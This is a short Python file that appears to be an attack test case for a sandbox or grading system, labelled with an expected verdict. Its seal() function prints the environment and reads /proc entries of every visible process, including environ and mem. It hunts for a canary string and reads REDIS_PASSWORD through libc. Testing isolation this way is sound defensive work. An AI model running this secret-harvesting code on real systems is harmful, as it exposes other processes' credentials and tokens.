# attack: reads the environment of every process that it can see, its own as it was at the start included
# packages: vault vault-examined
# verdict: WA
import ctypes
import os


def seal(token, numbers):
    print(dict(os.environ))
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline", "stat", "fd", "root", "cwd", "maps", "mem", "map_files"):
            try:
                path = f"/proc/{pid}/{name}"
                content = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100_000)
            except OSError:
                continue
            if "cn" + "ry-" in str(content):
                print(path)
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    print(libc.getenv(b"REDIS_PASSWORD"))
    return "nothing"
